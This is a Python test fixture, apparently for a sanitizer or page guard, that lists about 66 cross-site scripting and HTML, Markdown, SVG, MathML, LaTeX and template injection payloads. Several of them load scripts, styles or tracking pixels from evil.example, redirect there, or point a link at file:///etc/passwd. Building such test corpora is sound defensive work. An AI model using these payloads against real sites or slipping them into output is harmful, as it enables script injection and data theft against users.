"""What an attacker might have a user or a model write (R1): 60 payloads."""

from pathlib import Path

PAYLOADS = [
    # script, and what runs without one
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "<scr<script>ipt>alert(1)</script>",
    "<script\x0csrc='//evil.example/x.js'>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/a.gif 1x' sizes=1px>",
    "<picture><source srcset=//evil.example/p.webp><img></picture>",
    "<video poster=//evil.example/p.png src=//evil.example/v.mp4 onloadstart=alert(1)></video>",
    "<audio src=//evil.example/a.mp3 onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<div style='background:url(//evil.example/b.png)' onmouseover=alert(1)>x</div>",
    # what changes the page around it
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</div></main></body><script>alert(1)</script>",
    # SVG and MathML
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#//evil.example' href='javascript:alert(1)'>x</maction></math>",
    # links and pictures in Markdown
    "[click](javascript:alert(1))",
    "[click](java\tscript:alert(1)) [x](JAVASCRIPT&colon;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1)) [x](file:///etc/passwd)",
    '[x](https://evil.example" onmouseover="alert(1))',
    "[https://bank.example](https://user@evil.example/)",
    "![pixel](https://evil.example/pixel.gif)",
    '![x]("onerror="alert(1))',
    "[![x](https://evil.example/i.png)](javascript:alert(1))",
    "<https://evil.example/><javascript:alert(1)>",
    # code and its language
    "```<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)><script>alert(1)</script>\n```",
    '```js" onmouseover="alert(1)\n`${alert(1)}`\n```',
    "`<img src=x onerror=alert(1)>` **<img src=x onerror=alert(1)>**",
    # formulas and diagrams
    r"\(\href{javascript:alert(1)}{x} \url{javascript:alert(1)}\)",
    r"$$\includegraphics[height=1em]{https://evil.example/p.png} \htmlStyle{background:url(//evil)}{x}$$",
    r"\[\htmlData{x=1}{\def\a{\a\a}\a} \unicode{x3c}script\unicode{x3e}\]",
    '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>] --> B; click A href "javascript:alert(1)"\n```',
    # templates, references and writing systems
    "{@html '<img src=x onerror=alert(1)>'} ${alert(1)} {{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)",
    "\u202ealert(1)\u202c \u2028 <\u0130mg src=x onerror=alert(1)> \ufeff<\u017fcript>alert(1)",
    "<sub onclick=alert(1)>x</sub><kbd style=position:fixed>y</kbd><br onload=alert(1)>",
]

MORE = [
    "[x][js] ![y][js] [js]\n\n[js]: javascript:alert(1)\n[js]: data:text/html,<script>alert(1)</script>",
    '[https://bank.example][e] [e][]\n\n[e]: https://evil.example/ "><img src=x onerror=alert(1)>"',
    "[https://bank.example][f]\n\n[f]: <https://evil.example/>",
    '<https://evil.example/"onmouseover=alert(1)> www.evil.example/<img src=x onerror=alert(1)>',
    "    <script>alert(1)</script>\n    <img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)> `x`\n===\n><svg/onload=alert(1)>",
]
"""Against the parser of the page."""

GUARD = (Path(__file__).parent / "guard.js").read_text()
FAKE_SERVER = (Path(__file__).parent / "fake_server.js").read_text()
